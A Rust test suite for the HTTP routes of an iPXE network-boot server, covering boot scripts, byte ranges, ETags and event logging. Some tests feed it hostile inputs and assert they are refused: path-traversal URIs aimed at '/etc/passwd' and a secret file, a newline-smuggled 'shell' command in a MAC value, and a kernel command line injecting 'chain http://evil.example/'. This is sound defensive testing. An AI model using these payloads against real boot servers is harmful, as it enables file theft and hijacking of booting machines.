//! Every route through `tower::ServiceExt::oneshot`, against a fake catalogue and real files.

// Test helpers outside #[test] functions: a failed unwrap is a failed test.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::net::SocketAddr;

use axum::body::{Body, to_bytes};
use axum::extract::connect_info::MockConnectInfo;
use axum::http::{HeaderMap, Method, Request, StatusCode, header};
use flakeboot_catalogue::{BootFile, BootStage, FileKind, IpxeBinary, Outcome};
use flakeboot_httpboot::router;
use tower::ServiceExt;

use common::{ASSIGNED, Fixture};

const BASE: &str = "http://10.77.0.1";

struct Reply {
    status: StatusCode,
    headers: HeaderMap,
    body: Vec<u8>,
}

impl Reply {
    fn header(&self, name: header::HeaderName) -> &str {
        self.headers
            .get(&name)
            .unwrap_or_else(|| panic!("no {name} header in {:?}", self.headers))
            .to_str()
            .unwrap()
    }

    fn text(&self) -> String {
        String::from_utf8(self.body.clone()).unwrap()
    }
}

async fn send(fx: &Fixture, method: Method, uri: &str, headers: &[(&str, &str)]) -> Reply {
    let mut req = Request::builder().method(method).uri(uri);
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let res = router(fx.state(BASE))
        .oneshot(req.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = res.status();
    let headers = res.headers().clone();
    let body = to_bytes(res.into_body(), usize::MAX)
        .await
        .unwrap()
        .to_vec();
    Reply {
        status,
        headers,
        body,
    }
}

async fn get(fx: &Fixture, uri: &str) -> Reply {
    send(fx, Method::GET, uri, &[]).await
}

fn fixture() -> Fixture {
    Fixture::new(100_000, 300_000)
}

#[tokio::test]
async fn index_says_what_this_port_is_and_lists_nothing() {
    let fx = fixture();
    let r = get(&fx, "/").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.header(header::CONTENT_TYPE).starts_with("text/plain"));
    assert!(r.text().contains("flakeboot boot server"), "{}", r.text());
    assert!(!r.text().contains("demo"));
    assert!(fx.catalogue.events().is_empty());
}

#[tokio::test]
async fn assigned_machine_gets_its_host_script() {
    let fx = fixture();
    for q in [
        "mac=52:54:00:12:34:56",
        "mac=52-54-00-12-34-56",
        "mac=52%3A54%3A00%3A12%3A34%3A56",
    ] {
        let r = get(&fx, &format!("/boot.ipxe?{q}")).await;
        assert_eq!(r.status, StatusCode::OK, "{q}");
        assert!(r.header(header::CONTENT_TYPE).starts_with("text/plain"));
        let script = r.text();
        assert!(script.starts_with("#!ipxe\n"), "{script}");
        assert!(
            script.contains(
                "\nkernel http://10.77.0.1/boot/demo/static/kernel?mac=52:54:00:12:34:56 initrd=initrd console=ttyS0 panic=-1 || goto failed\n"
            ),
            "{script}"
        );
        assert!(script.contains("\ninitrd http://10.77.0.1/boot/demo/static/initrd?mac=52:54:00:12:34:56 || goto failed\n"));
        assert!(script.contains("\nboot || goto failed\n"));
    }
    let events = fx.catalogue.events();
    assert_eq!(events.len(), 3);
    for e in events {
        assert_eq!(e.stage, BootStage::Script);
        assert_eq!(e.outcome, Outcome::Ok);
        assert_eq!(e.mac, Some(ASSIGNED));
        assert!(
            e.detail.contains("/boot.ipxe") && e.detail.contains("host demo"),
            "{}",
            e.detail
        );
    }
}

#[tokio::test]
async fn unknown_missing_or_bad_mac_gets_the_menu() {
    let fx = fixture();
    for uri in [
        "/boot.ipxe",
        "/boot.ipxe?mac=",
        "/boot.ipxe?mac=00:11:22:33:44:55",
        "/boot.ipxe?mac=garbage",
        "/boot.ipxe?mac=%ZZ",
        "/boot.ipxe?mac=52:54:00:12:34:56%0Ashell",
    ] {
        let r = get(&fx, uri).await;
        assert_eq!(r.status, StatusCode::OK, "{uri}");
        let script = r.text();
        assert!(
            script.contains("\nchoose --timeout 5000 --default boot-demo selected"),
            "{uri}: {script}"
        );
        assert!(script.contains("\nitem local Boot from local disk\n"));
        assert!(script.contains("\nitem shell iPXE shell\n"));
        assert!(!script.contains("\nshell\nshell"), "{script}");
    }
    let events = fx.catalogue.events();
    assert_eq!(events.len(), 6);
    assert!(
        events
            .iter()
            .all(|e| e.stage == BootStage::Script && e.outcome == Outcome::Ok)
    );
    assert_eq!(
        events[2].mac.map(|m| m.to_string()).as_deref(),
        Some("00:11:22:33:44:55")
    );
    assert!(
        events
            .iter()
            .enumerate()
            .all(|(i, e)| i == 2 || e.mac.is_none())
    );
    assert!(
        events[0].detail.contains("menu of 1 host"),
        "{}",
        events[0].detail
    );
}

/// The menu's `local` entry fetches the URL in its script before leaving iPXE: one `local`
/// event, for the MAC it names (the catalogue attributes it by address, like every fetch).
#[tokio::test]
async fn the_menus_local_entry_is_recorded() {
    let fx = fixture();
    let script = get(&fx, "/boot.ipxe?mac=00:11:22:33:44:55").await.text();
    let url = script
        .lines()
        .find_map(|l| l.strip_prefix("imgfetch --name local-disk "))
        .and_then(|l| l.strip_suffix(" || goto local-exit"))
        .unwrap_or_else(|| panic!("no local fetch in {script}"));
    assert_eq!(url, format!("{BASE}/boot/local?mac=00:11:22:33:44:55"));
    assert!(
        script.contains("\n:local\n")
            && script.contains("imgfree local-disk\n:local-exit\nexit 1\n"),
        "{script}"
    );
    let r = get(&fx, url.strip_prefix(BASE).unwrap()).await;
    assert_eq!(r.status, StatusCode::OK);
    let events = fx.catalogue.events();
    let local = events.last().unwrap();
    assert_eq!(
        (local.stage, local.outcome),
        (BootStage::Local, Outcome::Ok)
    );
    assert_eq!(
        local.mac.map(|m| m.to_string()).as_deref(),
        Some("00:11:22:33:44:55")
    );
    assert!(
        local.detail.starts_with("GET /boot/local 200"),
        "{}",
        local.detail
    );
}

#[tokio::test]
async fn kernel_full_download() {
    let fx = fixture();
    let r = get(&fx, "/boot/demo/static/kernel?mac=52:54:00:12:34:56").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.body, fx.kernel);
    assert_eq!(r.header(header::CONTENT_LENGTH), "100000");
    assert_eq!(r.header(header::ACCEPT_RANGES), "bytes");
    assert_eq!(r.header(header::CONTENT_TYPE), "application/octet-stream");
    let etag = r.header(header::ETAG);
    assert!(
        etag.starts_with('"') && etag.ends_with('"') && !etag.starts_with("W/"),
        "{etag}"
    );
    httpdate::parse_http_date(r.header(header::LAST_MODIFIED)).unwrap();
    assert!(r.headers.get(header::CONTENT_RANGE).is_none());

    let events = fx.catalogue.events();
    assert_eq!(events.len(), 1);
    let e = &events[0];
    assert_eq!(
        (e.stage, e.outcome, e.mac),
        (BootStage::Kernel, Outcome::Ok, Some(ASSIGNED))
    );
    assert_eq!(e.peer, None, "oneshot has no connect info");
    assert_eq!(
        e.detail,
        "GET /boot/demo/static/kernel 200 bytes 0-99999/100000"
    );
}

#[tokio::test]
async fn initrd_ranges() {
    let fx = fixture();
    let len = fx.initrd.len();
    let cases: [(&str, std::ops::RangeInclusive<usize>); 4] = [
        ("bytes=100-199", 100..=199),
        ("bytes=-500", len - 500..=len - 1),
        ("bytes=1000-", 1000..=len - 1),
        ("bytes=299000-999999", 299_000..=len - 1),
    ];
    for (range, expected) in cases {
        let r = send(
            &fx,
            Method::GET,
            "/boot/demo/static/initrd",
            &[("range", range)],
        )
        .await;
        assert_eq!(r.status, StatusCode::PARTIAL_CONTENT, "{range}");
        assert_eq!(r.body, fx.initrd[expected.clone()], "{range}");
        assert_eq!(
            r.header(header::CONTENT_LENGTH),
            expected.clone().count().to_string()
        );
        assert_eq!(
            r.header(header::CONTENT_RANGE),
            format!("bytes {}-{}/{len}", expected.start(), expected.end())
        );
    }
    let events = fx.catalogue.events();
    assert_eq!(events[0].stage, BootStage::Initrd);
    assert_eq!(
        events[0].detail,
        "GET /boot/demo/static/initrd 206 bytes 100-199/300000"
    );
}

#[tokio::test]
async fn unsatisfiable_and_multi_ranges() {
    let fx = fixture();
    let r = send(
        &fx,
        Method::GET,
        "/boot/demo/static/initrd",
        &[("range", "bytes=300000-")],
    )
    .await;
    assert_eq!(r.status, StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(r.header(header::CONTENT_RANGE), "bytes */300000");
    assert!(r.body.is_empty());
    assert_eq!(fx.catalogue.events()[0].outcome, Outcome::Failed);

    let r = send(
        &fx,
        Method::GET,
        "/boot/demo/static/initrd",
        &[("range", "bytes=0-1,5-9")],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.body, fx.initrd);
}

#[tokio::test]
async fn head_has_the_headers_and_no_body() {
    let fx = fixture();
    let r = send(&fx, Method::HEAD, "/boot/demo/static/initrd", &[]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.header(header::CONTENT_LENGTH), "300000");
    assert!(r.headers.contains_key(header::ETAG));
    assert!(r.headers.contains_key(header::LAST_MODIFIED));
    assert!(r.body.is_empty());
    assert!(
        fx.catalogue.events()[0]
            .detail
            .starts_with("HEAD /boot/demo/static/initrd 200")
    );

    let r = send(
        &fx,
        Method::HEAD,
        "/ipxe/ipxe.efi",
        &[("range", "bytes=0-9")],
    )
    .await;
    assert_eq!(r.status, StatusCode::PARTIAL_CONTENT);
    assert_eq!(r.header(header::CONTENT_LENGTH), "10");
    assert!(r.body.is_empty());

    let r = send(&fx, Method::HEAD, "/boot.ipxe", &[]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body.is_empty());
}

#[tokio::test]
async fn conditional_requests() {
    let fx = fixture();
    let uri = "/boot/demo/static/kernel";
    let first = get(&fx, uri).await;
    let etag = first.header(header::ETAG).to_owned();
    let last_modified = first.header(header::LAST_MODIFIED).to_owned();

    for headers in [
        vec![("if-none-match", etag.as_str())],
        vec![("if-none-match", "*")],
        vec![("if-modified-since", last_modified.as_str())],
        vec![("if-none-match", etag.as_str()), ("range", "bytes=0-9")],
    ] {
        let r = send(&fx, Method::GET, uri, &headers).await;
        assert_eq!(r.status, StatusCode::NOT_MODIFIED, "{headers:?}");
        assert!(r.body.is_empty());
        assert_eq!(r.header(header::ETAG), etag);
    }
    let r = send(&fx, Method::GET, uri, &[("if-none-match", "\"stale\"")]).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.body, fx.kernel);
    let r = send(
        &fx,
        Method::GET,
        uri,
        &[("if-modified-since", "Thu, 01 Jan 1970 00:00:00 GMT")],
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);

    // If-Range: a current validator keeps the range, a stale one gets the whole file.
    for (if_range, status) in [
        (etag.as_str(), StatusCode::PARTIAL_CONTENT),
        (last_modified.as_str(), StatusCode::PARTIAL_CONTENT),
        ("\"stale\"", StatusCode::OK),
        ("Thu, 01 Jan 1970 00:00:00 GMT", StatusCode::OK),
    ] {
        let r = send(
            &fx,
            Method::GET,
            uri,
            &[("range", "bytes=10-19"), ("if-range", if_range)],
        )
        .await;
        assert_eq!(r.status, status, "{if_range}");
        let expected = if status == StatusCode::OK {
            &fx.kernel[..]
        } else {
            &fx.kernel[10..20]
        };
        assert_eq!(r.body, expected);
    }
    let not_modified = fx
        .catalogue
        .events()
        .iter()
        .filter(|e| e.detail.contains("304"))
        .count();
    assert_eq!(not_modified, 4);
}

#[tokio::test]
async fn etag_changes_when_the_file_changes() {
    let fx = fixture();
    let uri = "/boot/demo/static/kernel";
    let before = get(&fx, uri).await.header(header::ETAG).to_owned();
    let path = fx.dir.path().join("vmlinuz");
    // Same size, new content: a rewrite changes the mtime (nanoseconds) ...
    std::thread::sleep(std::time::Duration::from_millis(20));
    std::fs::write(&path, vec![0u8; fx.kernel.len()]).unwrap();
    let after = get(&fx, uri).await;
    assert_ne!(after.header(header::ETAG), before);
    assert_eq!(after.body, vec![0u8; fx.kernel.len()]);
    // ... and so does a replacement by rename (a new inode), whatever the mtime.
    let tmp = fx.dir.path().join("vmlinuz.new");
    std::fs::write(&tmp, &fx.kernel).unwrap();
    std::fs::rename(&tmp, &path).unwrap();
    assert_ne!(
        get(&fx, uri).await.header(header::ETAG),
        after.header(header::ETAG)
    );
}

#[tokio::test]
async fn ipxe_binaries_for_uefi_http_boot() {
    let fx = fixture();
    let r = get(&fx, "/ipxe/ipxe.efi").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.body, fx.ipxe);
    let e = &fx.catalogue.events()[0];
    assert_eq!((e.stage, e.outcome), (BootStage::HttpIpxe, Outcome::Ok));
    assert_eq!(e.detail, "GET /ipxe/ipxe.efi 200 bytes 0-4095/4096");
}

#[tokio::test]
async fn files_missing_from_catalogue_or_disk_are_404() {
    let fx = fixture();
    for (uri, stage) in [
        ("/boot/other/static/kernel", BootStage::Kernel),
        ("/boot/demo/v2/initrd", BootStage::Initrd),
        ("/ipxe/ipxe-arm64.efi", BootStage::HttpIpxe),
        // In the catalogue, but not on disk, or not a regular file.
        ("/ipxe/snponly.efi", BootStage::HttpIpxe),
        ("/ipxe/undionly.kpxe", BootStage::HttpIpxe),
    ] {
        let r = get(&fx, &format!("{uri}?mac=52:54:00:12:34:56")).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{uri}");
        let events = fx.catalogue.events();
        let e = events.last().unwrap();
        assert_eq!(
            (e.stage, e.outcome, e.mac),
            (stage, Outcome::Failed, Some(ASSIGNED)),
            "{uri}"
        );
        assert!(
            e.detail.contains(uri) && e.detail.contains("404"),
            "{}",
            e.detail
        );
    }
}

#[tokio::test]
async fn traversal_and_garbage_never_leave_the_catalogue() {
    let fx = fixture();
    let secret = std::fs::read(&fx.secret).unwrap();
    let abs = fx.secret.to_str().unwrap().replace('/', "%2F");
    let uris = [
        "/boot/../../etc/passwd".to_owned(),
        "/boot/demo/static/../../../etc/passwd".to_owned(),
        "/boot/demo/static/../secret".to_owned(),
        "/boot/%2e%2e/static/kernel".to_owned(),
        "/boot/demo/..%2F..%2Fsecret/kernel".to_owned(),
        "/boot/demo/static/kernel%00".to_owned(),
        "/boot/demo%00/static/kernel".to_owned(),
        "/boot/demo/static%2F..%2F..%2Fsecret/kernel".to_owned(),
        "/boot/demo/static/secret".to_owned(),
        "/boot/demo/static/vmlinuz".to_owned(),
        "/boot/demo/static/KERNEL".to_owned(),
        "/boot/demo/static/kernel/extra".to_owned(),
        "/boot/%ff/static/kernel".to_owned(),
        "/ipxe/..%2Fx".to_owned(),
        "/ipxe/..%2F..%2F..%2Fetc%2Fpasswd".to_owned(),
        "/ipxe/%2e%2e".to_owned(),
        "/ipxe/ipxe.efi%00".to_owned(),
        "/ipxe/%00".to_owned(),
        "/ipxe/%ff".to_owned(),
        "/ipxe/IPXE.EFI".to_owned(),
        "/ipxe/secret".to_owned(),
        format!("/ipxe/{abs}"),
        "/ipxe/".to_owned(),
        "/ipxe".to_owned(),
        "/secret".to_owned(),
        "//etc/passwd".to_owned(),
        "/etc/passwd".to_owned(),
        "/boot.ipxe/../secret".to_owned(),
    ];
    for uri in &uris {
        for method in [Method::GET, Method::HEAD] {
            let r = send(&fx, method.clone(), uri, &[]).await;
            assert!(
                r.status == StatusCode::NOT_FOUND || r.status == StatusCode::BAD_REQUEST,
                "{method} {uri}: {}",
                r.status
            );
            assert!(
                !r.body.windows(secret.len()).any(|w| w == secret.as_slice()),
                "{uri}"
            );
        }
    }
    // The catalogue was only ever asked about well-formed boot files.
    for asked in fx.catalogue.asked() {
        match asked {
            BootFile::Host {
                host,
                version,
                kind,
            } => {
                assert!(
                    host.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_'),
                    "{host:?}"
                );
                assert!(
                    !version.starts_with('.') && !version.contains('/'),
                    "{version:?}"
                );
                assert!(matches!(kind, FileKind::Kernel | FileKind::Initrd));
            }
            BootFile::Ipxe(b) => assert!(IpxeBinary::ALL.contains(&b)),
        }
    }
    // Mapped-but-refused file requests are still boot events, all failed.
    let events = fx.catalogue.events();
    assert!(!events.is_empty());
    assert!(
        events.iter().all(|e| e.outcome == Outcome::Failed),
        "{events:#?}"
    );
}

#[tokio::test]
async fn peer_address_is_recorded_when_the_server_provides_it() {
    let fx = fixture();
    let peer: SocketAddr = "10.77.0.123:40000".parse().unwrap();
    let app = router(fx.state(BASE)).layer(MockConnectInfo(peer));
    let req = Request::get("/boot.ipxe?mac=52:54:00:12:34:56")
        .body(Body::empty())
        .unwrap();
    let res = app.oneshot(req).await.unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let e = &fx.catalogue.events()[0];
    assert_eq!(e.peer, Some(peer.ip()));
}

#[tokio::test]
async fn unsafe_catalogue_data_is_a_500_not_a_script() {
    use std::sync::Arc;

    use flakeboot_catalogue::{BootEvent, BootSpec, Catalogue, HostBoot, MacAddr};

    #[derive(Debug, Default)]
    struct Evil(std::sync::Mutex<Vec<BootEvent>>);
    impl Catalogue for Evil {
        fn boot_spec(&self, _: Option<MacAddr>) -> BootSpec {
            BootSpec::Host(HostBoot {
                host: "demo".into(),
                version: "static".into(),
                cmdline: "quiet\nchain http://evil.example/".into(),
            })
        }
        fn boot_file(&self, _: &BootFile) -> Option<std::path::PathBuf> {
            None
        }
        fn record(&self, e: BootEvent) {
            self.0.lock().unwrap().push(e);
        }

        fn accept_report(&self, _mac: MacAddr, _from: std::net::IpAddr) -> bool {
            false
        }
    }
    let evil = Arc::new(Evil::default());
    let state = flakeboot_httpboot::HttpBootState {
        catalogue: evil.clone(),
        base_url: BASE.into(),
    };
    let res = router(state)
        .oneshot(Request::get("/boot.ipxe").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::INTERNAL_SERVER_ERROR);
    let body = to_bytes(res.into_body(), usize::MAX).await.unwrap();
    assert!(!String::from_utf8_lossy(&body).contains("chain"));
    let events = evil.0.lock().unwrap().clone();
    assert_eq!(events.len(), 1);
    assert_eq!(
        (events[0].stage, events[0].outcome),
        (BootStage::Script, Outcome::Failed)
    );
}

#[tokio::test]
async fn requests_are_counted() {
    use std::sync::Arc;

    use flakeboot_httpboot::{HttpBootCounts, HttpBootStats, router_with_stats};

    let fx = fixture();
    let stats = Arc::new(HttpBootStats::default());
    for uri in [
        "/boot.ipxe?mac=bad",
        "/boot/demo/static/kernel",
        "/boot/demo/static/initrd",
        "/ipxe/%ff",
        "/ipxe/nope",
        "/boot/other/static/kernel",
        "/nope",
    ] {
        let app = router_with_stats(fx.state(BASE), stats.clone());
        app.oneshot(Request::get(uri).body(Body::empty()).unwrap())
            .await
            .unwrap();
    }
    assert_eq!(
        stats.snapshot(),
        HttpBootCounts {
            scripts: 1,
            files: 2,
            not_found: 3,
            bad_requests: 2,
            errors: 0,
            reports: 0,
            refused_reports: 0,
        }
    );
}

/// A `GET` of a host's kernel or initrd names the host in its event (boot once reads it);
/// a `HEAD`, an iPXE binary, a refused path or a missing file does not.
#[tokio::test]
async fn a_get_of_a_hosts_file_names_the_host_in_its_event() {
    let fx = fixture();
    assert_eq!(
        get(&fx, "/boot/demo/static/kernel").await.status,
        StatusCode::OK
    );
    assert_eq!(
        get(&fx, "/boot/demo/static/initrd?mac=52:54:00:12:34:56")
            .await
            .status,
        StatusCode::OK
    );
    send(&fx, Method::HEAD, "/boot/demo/static/kernel", &[]).await;
    get(&fx, "/ipxe/ipxe.efi").await;
    get(&fx, "/boot/demo/static/vmlinuz").await;
    get(&fx, "/boot/other/static/kernel").await;
    let events = fx.catalogue.events();
    let hosts: Vec<_> = events
        .iter()
        .map(|e| (e.stage, e.host.as_deref()))
        .collect();
    assert_eq!(
        hosts,
        [
            (BootStage::Kernel, Some("demo")),
            (BootStage::Initrd, Some("demo")),
            (BootStage::Kernel, None),
            (BootStage::HttpIpxe, None),
            (BootStage::Kernel, None),
            (BootStage::Kernel, Some("other")),
        ],
        "{events:#?}"
    );
}
